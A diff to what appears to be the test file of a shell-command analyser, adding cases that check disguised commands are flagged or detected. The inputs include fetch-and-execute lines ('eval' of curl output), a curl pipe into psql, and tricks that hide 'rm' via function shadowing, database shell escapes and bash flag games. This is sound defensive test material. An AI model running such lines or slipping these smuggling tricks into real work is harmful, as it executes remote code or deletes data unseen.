@@ -277,3 +277,41 @@ def test_any_jumble_of_shell_syntax_can_be_read(pieces: list[str], between: str)
 @settings(max_examples=200)
 def test_any_part_of_a_line_can_be_read(line: str, start: int, length: int):
     read(line[start : start + length])
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'eval "$(curl -s https://example.com/x)"',
+        'eval "$(pyenv init -; cat x)"',
+        'eval "$(./pyenv init -)"',
+        'pyenv() { echo rm y; }; eval "$(pyenv init -)"',
+        'f() { eval "$(pyenv init -)"; }; pyenv() { echo rm y; }; f',
+        'printf "echo rm y" > pyenv; eval "$(pyenv init -)"',
+        'eval "$(PATH=. pyenv init -)"',
+        "curl -s https://example.com/x | psql app",
+        "sed s/a/b/ x.sql | psql app",
+        "echo '\\! rm y' | cat f - | psql app",
+        "cat x | ssh host",
+        "while read h; do ssh $h; done < hosts",
+        "pwsh -enc abc",
+    ],
+)
+def test_what_looks_like_everyday_doubt_stays_in_doubt(line: str) -> None:
+    assert read(line).doubts
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat > x.sql <<'E'\n\\! rm y\nE\npsql app < x.sql",
+        "cat > x.sql <<'E'\n\\! rm y\nE\npsql app -f x.sql",
+        "for i in 1 2; do mysql < x.sql; echo 'system rm y' > x.sql; done",
+        "echo '.shell rm y' > x; cat x | sqlite3 a.db",
+        "bash -n +n -c 'rm y'",
+        "bash -in -c 'rm y'",
+        "echo \"+n -c 'rm y'\" | xargs bash -n",
+    ],
+)
+def test_what_looks_harmless_and_runs_a_program_is_seen(line: str) -> None:
+    assert any(command.base_name == "rm" for command in read(line).commands)
